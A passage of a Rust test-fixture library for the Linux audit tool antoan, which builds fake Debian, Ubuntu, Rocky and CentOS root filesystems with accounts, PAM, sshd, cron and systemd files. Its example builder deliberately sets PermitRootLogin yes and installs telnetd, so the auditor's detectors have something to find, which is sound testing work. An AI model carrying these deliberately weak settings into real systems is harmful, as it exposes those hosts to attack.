//! Test fixtures for antoan: realistic Linux root directories written into a
//! temporary folder, for the collectors' tests and the CLI's golden tests.
//!
//! ```no_run
//! let f = antoan_testkit::Fixture::debian("12")
//!     .sshd_config("PermitRootLogin yes\n")
//!     .package("telnetd", "0.17-41.2", "netkit-telnet")
//!     .service_enabled("inetd");
//! let root: &std::path::Path = f.root();
//! ```
//!
//! Ready-made hosts: [`debian_12_clean`], [`debian_10_misconfigured`],
//! [`ubuntu_24_04_clean`], [`ubuntu_18_04_misconfigured`], [`rocky_9_clean`],
//! [`centos_7_misconfigured`], and hostile roots (`Fixture::hostile_*`).
//!
//! Determinism: every file's content is fixed, except password hashes in
//! /etc/shadow, which are random on each run (no real hash is ever
//! committed; the collectors never output a hash). Files whose time a
//! collector reads (ClamAV signatures) get an explicit mtime.
//!
//! Ownership: files belong to the user running the tests. When that user is
//! root (as in CI), files are chowned like on the real system (shadow group
//! for /etc/shadow on Debian, uid 4242 for the ownerless file); otherwise
//! the chown is skipped.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

pub mod data;
pub mod rpmdb;

use data::*;
pub use rpmdb::RpmPackage;

/// ClamAV signature date of the clean fixtures: the day before the date the
/// CLI golden tests audit at (`--now 2026-11-24`), so the signatures are fresh.
pub const CLEAN_SIGNATURE_DATE: &str = "2026-11-23";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Distro {
    Debian,
    Ubuntu,
    Rocky,
    CentOs,
}

impl Distro {
    pub fn is_deb(self) -> bool {
        matches!(self, Distro::Debian | Distro::Ubuntu)
    }
}

/// Password field of an account.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Password {
    Yescrypt,
    Sha512,
    Md5,
    Des,
    /// Empty field: login without a password.
    Empty,
    /// `!` or `*`.
    Locked,
    /// `!` + a hash (passwd -l).
    LockedHash,
}

#[derive(Debug, Clone)]
pub struct AccountSpec {
    pub name: String,
    pub uid: u32,
    pub gid: u32,
    pub gecos: String,
    pub home: String,
    pub shell: String,
    pub password: Password,
    /// (last change, min, max, warn, inactive); None leaves the fields empty.
    pub ageing: Option<(i64, i64, i64, i64, Option<i64>)>,
}

#[derive(Debug, Clone)]
pub struct GroupSpec {
    pub name: String,
    pub gid: u32,
    pub members: Vec<String>,
}

#[derive(Debug, Clone)]
struct DebPkg {
    name: String,
    version: String,
    arch: String,
    source: String,
}

/// How the rpm database is stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RpmDbFormat {
    Sqlite,
    /// Berkeley DB (rpm < 4.16: CentOS 7, RHEL 8): the collector reports it unsupported.
    BerkeleyDb,
}

/// A Linux root in a temporary folder (removed on drop).
pub struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    distro: Distro,
    version: String,
    debs: Vec<DebPkg>,
    rpms: Vec<RpmPackage>,
    accounts: Vec<AccountSpec>,
    groups: Vec<GroupSpec>,
    rpmdb_format: RpmDbFormat,
    unit_dir: &'static str,
    default_ageing: Option<(i64, i64, i64, i64, Option<i64>)>,
}

fn is_root_user() -> bool {
    // SAFETY-free check: a file we create is owned by our effective uid.
    let p = std::env::temp_dir().join(format!(".antoan-testkit-uid-{}", std::process::id()));
    let _ = std::fs::write(&p, b"");
    let uid = std::fs::metadata(&p)
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m))
        .unwrap_or(1);
    let _ = std::fs::remove_file(&p);
    uid == 0
}

const CRYPT_CHARS: &[u8] = b"./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/// Random crypt-alphabet characters (never a real password's hash).
fn random_chars(n: usize) -> String {
    use std::hash::{BuildHasher, Hasher};
    let state = std::collections::hash_map::RandomState::new();
    let mut out = String::with_capacity(n);
    let mut i = 0u64;
    while out.len() < n {
        let mut h = state.build_hasher();
        h.write_u64(i);
        let mut v = h.finish();
        for _ in 0..10 {
            if out.len() == n {
                break;
            }
            out.push(CRYPT_CHARS[(v % 64) as usize] as char);
            v /= 64;
        }
        i += 1;
    }
    out
}

/// A hash-shaped field made at run time.
pub fn fake_hash(p: Password) -> String {
    match p {
        Password::Yescrypt => format!("$y$j9T${}${}", random_chars(22), random_chars(43)),
        Password::Sha512 => format!("$6${}${}", random_chars(16), random_chars(86)),
        Password::Md5 => format!("$1${}${}", random_chars(8), random_chars(22)),
        Password::Des => random_chars(13),
        Password::Empty => String::new(),
        Password::Locked => "!".into(),
        Password::LockedHash => format!("!$y$j9T${}${}", random_chars(22), random_chars(43)),
    }
}

/// A deterministic 32-hex machine id from a label.
fn machine_id(label: &str) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut out = String::new();
    for round in 0..2u64 {
        for b in label.bytes().chain(round.to_le_bytes()) {
            h ^= b as u64;
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        out.push_str(&format!("{h:016x}"));
    }
    out
}

/// Days since 1970-01-01 of a `YYYY-MM-DD` date.
fn days_from_civil(y: i64, m: u32, d: u32) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400;
    let mp = (m as i64 + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d as i64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

fn parse_date(date: &str) -> (i64, u32, u32) {
    let p: Vec<&str> = date.split('-').collect();
    assert!(p.len() == 3, "date must be YYYY-MM-DD, got {date}");
    (
        p[0].parse().expect("year"),
        p[1].parse().expect("month"),
        p[2].parse().expect("day"),
    )
}

impl Fixture {
    // ---------------------------------------------------------------- basics

    /// The root folder (pass it to `Source::Root`).
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// Host path of a path inside the root (`/etc/passwd`).
    pub fn path(&self, p: &str) -> PathBuf {
        self.root.join(p.trim_start_matches('/'))
    }

    pub fn distro(&self) -> Distro {
        self.distro
    }

    pub fn version(&self) -> &str {
        &self.version
    }

    /// Writes a file (parents created) with a mode.
    pub fn file(self, path: &str, contents: impl AsRef<[u8]>, mode: u32) -> Self {
        self.write(path, contents.as_ref(), mode);
        self
    }

    /// Writes a text file with mode 0644.
    pub fn text(self, path: &str, contents: &str) -> Self {
        self.file(path, contents, 0o644)
    }

    /// Creates a folder with a mode.
    pub fn dir(self, path: &str, mode: u32) -> Self {
        self.mkdir(path, mode);
        self
    }

    /// Creates a symlink (replacing what is there).
    pub fn symlink(self, path: &str, target: &str) -> Self {
        self.link(path, target);
        self
    }

    /// Removes a file, link or folder tree.
    pub fn remove(self, path: &str) -> Self {
        let p = self.path(path);
        if std::fs::symlink_metadata(&p)
            .map(|m| m.is_dir())
            .unwrap_or(false)
        {
            let _ = std::fs::remove_dir_all(&p);
        } else {
            let _ = std::fs::remove_file(&p);
        }
        self
    }

    /// Sets a file's modification time (`YYYY-MM-DD`, midnight UTC).
    pub fn mtime(self, path: &str, date: &str) -> Self {
        self.set_mtime(path, date);
        self
    }

    /// chowns a path when running as root (ignored otherwise).
    pub fn chown(self, path: &str, uid: u32, gid: u32) -> Self {
        self.own(path, uid, gid);
        self
    }

    fn write(&self, path: &str, contents: &[u8], mode: u32) {
        let p = self.path(path);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).expect("create parent");
        }
        if std::fs::symlink_metadata(&p)
            .map(|m| m.file_type().is_symlink())
            .unwrap_or(false)
        {
            std::fs::remove_file(&p).expect("remove symlink");
        }
        std::fs::write(&p, contents).expect("write fixture file");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).expect("chmod");
    }

    fn mkdir(&self, path: &str, mode: u32) {
        let p = self.path(path);
        std::fs::create_dir_all(&p).expect("mkdir");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).expect("chmod dir");
    }

    fn link(&self, path: &str, target: &str) {
        let p = self.path(path);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).expect("create parent");
        }
        if std::fs::symlink_metadata(&p).is_ok() {
            if std::fs::symlink_metadata(&p)
                .map(|m| m.is_dir())
                .unwrap_or(false)
            {
                std::fs::remove_dir_all(&p).expect("remove dir");
            } else {
                std::fs::remove_file(&p).expect("remove");
            }
        }
        std::os::unix::fs::symlink(target, &p).expect("symlink");
    }

    fn own(&self, path: &str, uid: u32, gid: u32) {
        if is_root_user() {
            let _ = std::os::unix::fs::lchown(self.path(path), Some(uid), Some(gid));
        }
    }

    fn set_mtime(&self, path: &str, date: &str) {
        let (y, m, d) = parse_date(date);
        let secs = days_from_civil(y, m, d) * 86_400;
        let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs.max(0) as u64);
        let f = std::fs::File::options()
            .write(true)
            .open(self.path(path))
            .expect("open for mtime");
        f.set_times(std::fs::FileTimes::new().set_modified(t).set_accessed(t))
            .expect("set mtime");
    }

    // -------------------------------------------------------------- releases

    /// A Debian root: versions "10" (buster) and "12" (bookworm).
    pub fn debian(version: &str) -> Fixture {
        let (os_release, debian_version, pkgs, merged): (&str, &str, &[Deb], bool) = match version {
            "10" => (DEBIAN_10_OS_RELEASE, "10.13", DEBIAN_10_PACKAGES, false),
            "12" => (DEBIAN_12_OS_RELEASE, "12.5", DEBIAN_12_PACKAGES, true),
            v => panic!("antoan-testkit has Debian 10 and 12, not {v}"),
        };
        let mut f = Fixture::empty(Distro::Debian, version, merged);
        f.write("/usr/lib/os-release", os_release.as_bytes(), 0o644);
        f.link("/etc/os-release", "../usr/lib/os-release");
        f.write(
            "/etc/debian_version",
            format!("{debian_version}\n").as_bytes(),
            0o644,
        );
        f.write(
            "/etc/hostname",
            format!("srv-debian{version}\n").as_bytes(),
            0o644,
        );
        f.debs = pkgs.iter().map(deb).collect();
        f.debian_family_base();
        f
    }

    /// An Ubuntu root: versions "18.04" (bionic) and "24.04" (noble).
    pub fn ubuntu(version: &str) -> Fixture {
        let (os_release, debian_version, pkgs, merged): (&str, &str, &[Deb], bool) = match version {
            "18.04" => (
                UBUNTU_18_04_OS_RELEASE,
                "buster/sid",
                UBUNTU_18_04_PACKAGES,
                false,
            ),
            "24.04" => (
                UBUNTU_24_04_OS_RELEASE,
                "trixie/sid",
                UBUNTU_24_04_PACKAGES,
                true,
            ),
            v => panic!("antoan-testkit has Ubuntu 18.04 and 24.04, not {v}"),
        };
        let mut f = Fixture::empty(Distro::Ubuntu, version, merged);
        f.write("/usr/lib/os-release", os_release.as_bytes(), 0o644);
        f.link("/etc/os-release", "../usr/lib/os-release");
        f.write(
            "/etc/debian_version",
            format!("{debian_version}\n").as_bytes(),
            0o644,
        );
        f.write(
            "/etc/hostname",
            format!("srv-ubuntu{}\n", version.replace('.', "")).as_bytes(),
            0o644,
        );
        f.debs = pkgs.iter().map(deb).collect();
        f.debian_family_base();
        f
    }

    /// A Rocky Linux root with a sqlite rpmdb: version "9" (9.3).
    pub fn rocky(version: &str) -> Fixture {
        assert!(
            version == "9" || version.starts_with("9."),
            "antoan-testkit has Rocky Linux 9, not {version}"
        );
        let mut f = Fixture::empty(Distro::Rocky, "9", true);
        f.write("/usr/lib/os-release", ROCKY_9_OS_RELEASE.as_bytes(), 0o644);
        f.link("/etc/os-release", "../usr/lib/os-release");
        f.write(
            "/etc/rocky-release",
            ROCKY_9_REDHAT_RELEASE.as_bytes(),
            0o644,
        );
        f.link("/etc/redhat-release", "rocky-release");
        f.link("/etc/system-release", "rocky-release");
        f.write("/etc/hostname", b"srv-rocky9\n", 0o644);
        f.rpms = ROCKY_9_PACKAGES
            .iter()
            .map(|r| rpm(r, "Rocky Enterprise Software Foundation"))
            .collect();
        f.redhat_family_base();
        f
    }

    /// A CentOS root: version "7" (7.9.2009), Berkeley DB rpmdb like the real one.
    pub fn centos(version: &str) -> Fixture {
        assert!(version == "7", "antoan-testkit has CentOS 7, not {version}");
        let mut f = Fixture::empty(Distro::CentOs, "7", true);
        f.rpmdb_format = RpmDbFormat::BerkeleyDb;
        f.write("/usr/lib/os-release", CENTOS_7_OS_RELEASE.as_bytes(), 0o644);
        f.link("/etc/os-release", "../usr/lib/os-release");
        f.write(
            "/etc/centos-release",
            CENTOS_7_REDHAT_RELEASE.as_bytes(),
            0o644,
        );
        f.link("/etc/redhat-release", "centos-release");
        f.link("/etc/system-release", "centos-release");
        f.write("/etc/hostname", b"srv-centos7\n", 0o644);
        f.rpms = CENTOS_7_PACKAGES.iter().map(|r| rpm(r, "CentOS")).collect();
        f.redhat_family_base();
        f
    }

    fn empty(distro: Distro, version: &str, merged_usr: bool) -> Fixture {
        let dir = tempfile::Builder::new()
            .prefix("antoan-root-")
            .tempdir()
            .expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical tempdir");
        let f = Fixture {
            _dir: dir,
            root,
            distro,
            version: version.to_string(),
            debs: Vec::new(),
            rpms: Vec::new(),
            accounts: Vec::new(),
            groups: Vec::new(),
            rpmdb_format: RpmDbFormat::Sqlite,
            unit_dir: if merged_usr || !distro.is_deb() {
                "/usr/lib/systemd/system"
            } else {
                "/lib/systemd/system"
            },
            default_ageing: Some((19_800, 0, 99_999, 7, None)),
        };
        std::fs::set_permissions(&f.root, std::fs::Permissions::from_mode(0o755))
            .expect("chmod root");
        for (d, m) in [
            ("/etc", 0o755),
            ("/usr/bin", 0o755),
            ("/usr/sbin", 0o755),
            ("/usr/lib", 0o755),
            ("/usr/share", 0o755),
            ("/var/lib", 0o755),
            ("/var/log", 0o755),
            ("/var/spool/cron", 0o755),
            ("/boot", 0o755),
            ("/root", 0o700),
            ("/home", 0o755),
            ("/tmp", 0o1777),
            ("/var/tmp", 0o1777),
            ("/run", 0o755),
            ("/proc", 0o555),
            ("/sys", 0o555),
            ("/dev", 0o755),
            ("/opt", 0o755),
        ] {
            f.mkdir(d, m);
        }
        if merged_usr {
            f.mkdir("/usr/lib64", 0o755);
            f.link("/bin", "usr/bin");
            f.link("/sbin", "usr/sbin");
            f.link("/lib", "usr/lib");
            f.link("/lib64", "usr/lib64");
        } else {
            f.mkdir("/bin", 0o755);
            f.mkdir("/sbin", 0o755);
            f.mkdir("/lib", 0o755);
        }
        f.link("/var/run", "../run");
        f.write(
            "/etc/machine-id",
            format!("{}\n", machine_id(&format!("{distro:?}-{version}"))).as_bytes(),
            0o444,
        );
        for b in [
            "/usr/bin/bash",
            "/usr/bin/sh",
            "/usr/bin/sudo",
            "/usr/bin/passwd",
            "/usr/sbin/sshd",
        ] {
            f.write(b, b"\x7fELF fixture binary\n", 0o755);
        }
        f.write("/usr/bin/sudo", b"\x7fELF fixture binary\n", 0o4755);
        f.write("/usr/bin/passwd", b"\x7fELF fixture binary\n", 0o4755);
        f
    }

    // ---------------------------------------------------------- base content

    fn debian_family_base(&mut self) {
        self.write("/var/lib/dpkg/arch", b"amd64\n", 0o644);
        self.mkdir("/var/lib/dpkg/info", 0o755);
        self.groups = vec![
            g("root", 0, &[]),
            g("daemon", 1, &[]),
            g("bin", 2, &[]),
            g("sys", 3, &[]),
            g("adm", 4, &["syslog"]),
            g("tty", 5, &[]),
            g("disk", 6, &[]),
            g("lp", 7, &[]),
            g("mail", 8, &[]),
            g("news", 9, &[]),
            g("uucp", 10, &[]),
            g("man", 12, &[]),
            g("proxy", 13, &[]),
            g("kmem", 15, &[]),
            g("dialout", 20, &[]),
            g("cdrom", 24, &[]),
            g("sudo", 27, &[]),
            g("audio", 29, &[]),
            g("www-data", 33, &[]),
            g("backup", 34, &[]),
            g("shadow", 42, &[]),
            g("utmp", 43, &[]),
            g("staff", 50, &[]),
            g("systemd-journal", 999, &[]),
            g("systemd-network", 998, &[]),
            g("crontab", 101, &[]),
            g("messagebus", 102, &[]),
            g("ssh", 103, &[]),
            g("nogroup", 65534, &[]),
        ];
        let nologin = "/usr/sbin/nologin";
        self.accounts = vec![
            a("root", 0, 0, "root", "/root", "/bin/bash", Password::Locked),
            a(
                "daemon",
                1,
                1,
                "daemon",
                "/usr/sbin",
                nologin,
                Password::Locked,
            ),
            a("bin", 2, 2, "bin", "/bin", nologin, Password::Locked),
            a("sys", 3, 3, "sys", "/dev", nologin, Password::Locked),
            a(
                "sync",
                4,
                65534,
                "sync",
                "/bin",
                "/bin/sync",
                Password::Locked,
            ),
            a(
                "games",
                5,
                60,
                "games",
                "/usr/games",
                nologin,
                Password::Locked,
            ),
            a(
                "man",
                6,
                12,
                "man",
                "/var/cache/man",
                nologin,
                Password::Locked,
            ),
            a(
                "lp",
                7,
                7,
                "lp",
                "/var/spool/lpd",
                nologin,
                Password::Locked,
            ),
            a("mail", 8, 8, "mail", "/var/mail", nologin, Password::Locked),
            a(
                "news",
                9,
                9,
                "news",
                "/var/spool/news",
                nologin,
                Password::Locked,
            ),
            a(
                "uucp",
                10,
                10,
                "uucp",
                "/var/spool/uucp",
                nologin,
                Password::Locked,
            ),
            a("proxy", 13, 13, "proxy", "/bin", nologin, Password::Locked),
            a(
                "www-data",
                33,
                33,
                "www-data",
                "/var/www",
                nologin,
                Password::Locked,
            ),
            a(
                "backup",
                34,
                34,
                "backup",
                "/var/backups",
                nologin,
                Password::Locked,
            ),
            a(
                "_apt",
                42,
                65534,
                "",
                "/nonexistent",
                nologin,
                Password::Locked,
            ),
            a(
                "nobody",
                65534,
                65534,
                "nobody",
                "/nonexistent",
                nologin,
                Password::Locked,
            ),
            a(
                "systemd-network",
                998,
                998,
                "systemd Network Management",
                "/",
                nologin,
                Password::Locked,
            ),
            a(
                "messagebus",
                100,
                102,
                "",
                "/nonexistent",
                nologin,
                Password::Locked,
            ),
            a(
                "sshd",
                101,
                65534,
                "",
                "/run/sshd",
                nologin,
                Password::Locked,
            ),
        ];
        self.groups.push(g("games", 60, &[]));
        if self.distro == Distro::Ubuntu {
            self.accounts.push(a(
                "syslog",
                102,
                4,
                "",
                "/home/syslog",
                nologin,
                Password::Locked,
            ));
            self.groups.push(g("syslog", 110, &[]));
        }
        self.add_admin("quantri", "sudo", Password::Yescrypt);
        self.flush_accounts();
        self.flush_packages();
        self.write(
            "/etc/login.defs",
            login_defs(
                99999,
                0,
                7,
                "022",
                if self.distro == Distro::Debian && self.version == "10" {
                    "SHA512"
                } else {
                    "YESCRYPT"
                },
            )
            .as_bytes(),
            0o644,
        );
        self.write("/etc/sudoers", DEBIAN_SUDOERS.as_bytes(), 0o440);
        self.write("/etc/sudoers.d/README", b"#\n# Files in this directory are read by sudo (see #includedir in /etc/sudoers).\n#\n", 0o440);
        self.write(
            "/etc/ssh/sshd_config",
            debian_sshd_config(self.has_sshd_dropins()).as_bytes(),
            0o644,
        );
        if self.has_sshd_dropins() {
            self.mkdir("/etc/ssh/sshd_config.d", 0o755);
        }
        self.write("/etc/crontab", DEBIAN_CRONTAB.as_bytes(), 0o644);
        self.write("/etc/cron.d/e2scrub_all", b"30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n", 0o644);
        for s in ["apt-compat", "dpkg", "logrotate", "man-db"] {
            self.write(
                &format!("/etc/cron.daily/{s}"),
                b"#!/bin/sh\nexit 0\n",
                0o755,
            );
        }
        self.write("/etc/cron.daily/.placeholder", b"", 0o644);
        self.mkdir("/var/spool/cron/crontabs", 0o1730);
        self.write("/etc/fstab", b"# /etc/fstab: static file system information.\n#\n# <file system> <mount point>   <type>  <options>       <dump>  <pass>\nUUID=6a0f4ee1-8c15-4b1a-9a8e-1f2d3c4b5a69 /               ext4    errors=remount-ro 0       1\nUUID=3b2d1c0a-1111-4e2e-8a77-0c9d8e7f6a5b none            swap    sw              0       0\n", 0o644);
        self.write("/etc/profile.d/bash_completion.sh", b"# shellcheck shell=sh disable=SC1091,SC2039,SC2166\n[ -f /usr/share/bash-completion/bash_completion ] && . /usr/share/bash-completion/bash_completion\n", 0o644);
        self.write("/usr/lib/sysctl.d/50-default.conf", b"# systemd defaults\nkernel.sysrq = 0x01b6\nkernel.core_uses_pid = 1\nnet.ipv4.conf.default.rp_filter = 2\nnet.ipv4.conf.*.rp_filter = 2\nfs.protected_hardlinks = 1\nfs.protected_symlinks = 1\nfs.protected_regular = 1\nfs.protected_fifos = 1\n", 0o644);
        self.write("/etc/sysctl.conf", b"#\n# /etc/sysctl.conf - Configuration file for setting system variables\n# See /etc/sysctl.d/ for additional system variables.\n#\n#net.ipv4.ip_forward=1\n", 0o644);
        self.write("/etc/modprobe.d/blacklist-framebuffer.conf", b"# Framebuffer drivers are generally buggy and poorly-supported\nblacklist aty128fb\nblacklist atyfb\n", 0o644);
        self.write(
            "/etc/apt/sources.list",
            b"deb http://deb.debian.org/debian bookworm main\n",
            0o644,
        );
        self.write(
            "/etc/apt/apt.conf.d/01autoremove",
            b"APT\n{\n  NeverAutoRemove\n  {\n\t\"^firmware-linux.*\";\n  };\n};\n",
            0o644,
        );
        // PAM
        self.write("/etc/pam.d/common-auth", b"#\n# /etc/pam.d/common-auth - authentication settings common to all services\n#\nauth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n", 0o644);
        self.write("/etc/pam.d/common-account", b"account\t[success=1 new_authtok_reqd=done default=ignore]\tpam_unix.so\naccount\trequisite\t\t\tpam_deny.so\naccount\trequired\t\t\tpam_permit.so\n", 0o644);
        self.write("/etc/pam.d/common-password", b"password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt\npassword\trequisite\t\t\tpam_deny.so\npassword\trequired\t\t\tpam_permit.so\n", 0o644);
        self.write("/etc/pam.d/common-session", b"session\t[default=1]\t\t\tpam_permit.so\nsession\trequisite\t\t\tpam_deny.so\nsession\trequired\t\t\tpam_permit.so\nsession\trequired\tpam_unix.so\n-session\toptional\tpam_systemd.so\n", 0o644);
        self.write("/etc/pam.d/sshd", b"# PAM configuration for the Secure Shell service\n@include common-auth\naccount    required     pam_nologin.so\n@include common-account\nsession [success=ok ignore=ignore module_unknown=ignore default=bad]        pam_selinux.so close\nsession    required     pam_loginuid.so\n@include common-session\n@include common-password\n", 0o644);
        self.write("/etc/pam.d/login", b"auth       optional   pam_faildelay.so  delay=3000000\n@include common-auth\n@include common-account\n@include common-session\n@include common-password\n", 0o644);
        self.write("/etc/pam.d/su", b"auth       sufficient pam_rootok.so\n# auth       required   pam_wheel.so\nsession       required   pam_env.so readenv=1\n@include common-auth\n@include common-account\n@include common-session\n", 0o644);
        self.write("/etc/pam.d/other", b"@include common-auth\n@include common-account\n@include common-password\n@include common-session\n", 0o644);
        // systemd units
        let ssh_unit = "ssh";
        self.unit(&format!("{ssh_unit}.service"), "[Unit]\nDescription=OpenBSD Secure Shell server\nAfter=network.target auditd.service\nConditionPathExists=!/etc/ssh/sshd_not_to_be_run\n\n[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/usr/sbin/sshd -t\nExecReload=/bin/kill -HUP $MAINPID\nKillMode=process\nRestart=on-failure\nType=notify\n\n[Install]\nWantedBy=multi-user.target\nAlias=sshd.service\n");
        self.unit("ssh.socket", "[Unit]\nDescription=OpenBSD Secure Shell server socket\n\n[Socket]\nListenStream=22\nAccept=yes\n\n[Install]\nWantedBy=sockets.target\n");
        self.unit("cron.service", "[Unit]\nDescription=Regular background program processing daemon\n\n[Service]\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n\n[Install]\nWantedBy=multi-user.target\n");
        self.unit("rsyslog.service", "[Unit]\nDescription=System Logging Service\n\n[Service]\nType=notify\nExecStart=/usr/sbin/rsyslogd -n -iNONE\n\n[Install]\nWantedBy=multi-user.target\nAlias=syslog.service\n");
        self.unit("getty@.service", "[Unit]\nDescription=Getty on %I\n\n[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n\n[Install]\nWantedBy=getty.target\n");
        self.unit("systemd-journald.service", "[Unit]\nDescription=Journal Service\n\n[Service]\nExecStart=/lib/systemd/systemd-journald\n");
        self.unit("systemd-logind.service", "[Unit]\nDescription=User Login Management\n\n[Service]\nExecStart=/lib/systemd/systemd-logind\n");
        self.unit("apt-daily.timer", "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n");
        self.unit("apt-daily.service", "[Unit]\nDescription=Daily apt download activities\n\n[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n");
        self.unit("apt-daily-upgrade.timer", "[Unit]\nDescription=Daily apt upgrade and clean activities\n\n[Timer]\nOnCalendar=*-*-* 6:00\nRandomizedDelaySec=60m\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n");
        self.unit("apt-daily-upgrade.service", "[Unit]\nDescription=Daily apt upgrade and clean activities\n\n[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily install\n");
        self.unit("logrotate.timer", "[Unit]\nDescription=Daily rotation of log files\n\n[Timer]\nOnCalendar=daily\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n");
        self.unit("logrotate.service", "[Unit]\nDescription=Rotate log files\n\n[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n");
        self.unit("systemd-timesyncd.service", "[Unit]\nDescription=Network Time Synchronization\n\n[Service]\nExecStart=!!/lib/systemd/systemd-timesyncd\n\n[Install]\nWantedBy=sysinit.target\nAlias=dbus-org.freedesktop.timesync1.service\n");
        self.wants("multi-user.target", "cron.service");
        self.wants("multi-user.target", "rsyslog.service");
        self.wants("getty.target", "getty@tty1.service");
        for t in [
            "apt-daily.timer",
            "apt-daily-upgrade.timer",
            "logrotate.timer",
        ] {
            self.wants("timers.target", t);
        }
        if self.distro == Distro::Ubuntu && self.version == "24.04" {
            // Ubuntu 24.04 starts sshd through socket activation.
            self.wants("sockets.target", "ssh.socket");
        } else {
            self.wants("multi-user.target", "ssh.service");
            self.link(
                "/etc/systemd/system/sshd.service",
                &format!("{}/ssh.service", self.unit_dir),
            );
        }
        if self.distro == Distro::Ubuntu {
            self.wants("sysinit.target", "systemd-timesyncd.service");
            self.write(
                "/etc/systemd/timesyncd.conf",
                b"[Time]\n#NTP=\n#FallbackNTP=ntp.ubuntu.com\n",
                0o644,
            );
            self.write("/etc/ufw/ufw.conf", b"# /etc/ufw/ufw.conf\n#\n\n# Set to yes to start on boot. If setting this remotely, be sure to add a rule\n# to allow your remote connection before starting ufw. Eg: 'ufw allow 22/tcp'\nENABLED=no\n\n# Please use the 'ufw' command to set the loglevel. Eg: 'ufw logging medium'.\n# See 'man ufw' for details.\nLOGLEVEL=low\n", 0o644);
            self.write("/etc/default/ufw", b"# /etc/default/ufw\n#\n\n# Set to yes to apply rules to support IPv6 (no means only IPv6 on loopback\n# accepted). You will need to 'disable' and then 'enable' the firewall for\n# the changes to take affect.\nIPV6=yes\n\n# Set the default input policy to ACCEPT, DROP, or REJECT. Please note that if\n# you change this you will most likely want to adjust your rules.\nDEFAULT_INPUT_POLICY=\"DROP\"\n\n# Set the default output policy to ACCEPT, DROP, or REJECT. Please note that if\n# you change this you will most likely want to adjust your rules.\nDEFAULT_OUTPUT_POLICY=\"ACCEPT\"\n\nDEFAULT_FORWARD_POLICY=\"DROP\"\n", 0o644);
            self.unit("ufw.service", "[Unit]\nDescription=Uncomplicated firewall\n\n[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/lib/ufw/ufw-init start quiet\n\n[Install]\nWantedBy=multi-user.target\n");
            self.wants("multi-user.target", "ufw.service");
        }
        self.write_kernels();
        self.base_secure_modes();
    }

    fn redhat_family_base(&mut self) {
        self.groups = vec![
            g("root", 0, &[]),
            g("bin", 1, &[]),
            g("daemon", 2, &[]),
            g("sys", 3, &[]),
            g("adm", 4, &[]),
            g("tty", 5, &[]),
            g("disk", 6, &[]),
            g("lp", 7, &[]),
            g("mem", 8, &[]),
            g("kmem", 9, &[]),
            g("wheel", 10, &[]),
            g("cdrom", 11, &[]),
            g("mail", 12, &[]),
            g("man", 15, &[]),
            g("dialout", 18, &[]),
            g("floppy", 19, &[]),
            g("games", 20, &[]),
            g("tape", 33, &[]),
            g("video", 39, &[]),
            g("ftp", 50, &[]),
            g("lock", 54, &[]),
            g("audio", 63, &[]),
            g("users", 100, &[]),
            g("nobody", 65534, &[]),
            g("systemd-journal", 190, &[]),
            g("sshd", 74, &[]),
            g("dbus", 81, &[]),
            g("utmp", 22, &[]),
            g("chrony", 992, &[]),
            g("polkitd", 996, &[]),
            g("ssh_keys", 993, &[]),
        ];
        let nologin = "/sbin/nologin";
        self.accounts = vec![
            a("root", 0, 0, "root", "/root", "/bin/bash", Password::Locked),
            a("bin", 1, 1, "bin", "/bin", nologin, Password::Locked),
            a("daemon", 2, 2, "daemon", "/sbin", nologin, Password::Locked),
            a("adm", 3, 4, "adm", "/var/adm", nologin, Password::Locked),
            a(
                "lp",
                4,
                7,
                "lp",
                "/var/spool/lpd",
                nologin,
                Password::Locked,
            ),
            a("sync", 5, 0, "sync", "/sbin", "/bin/sync", Password::Locked),
            a(
                "shutdown",
                6,
                0,
                "shutdown",
                "/sbin",
                "/sbin/shutdown",
                Password::Locked,
            ),
            a(
                "halt",
                7,
                0,
                "halt",
                "/sbin",
                "/sbin/halt",
                Password::Locked,
            ),
            a(
                "mail",
                8,
                12,
                "mail",
                "/var/spool/mail",
                nologin,
                Password::Locked,
            ),
            a(
                "operator",
                11,
                0,
                "operator",
                "/root",
                nologin,
                Password::Locked,
            ),
            a(
                "games",
                12,
                100,
                "games",
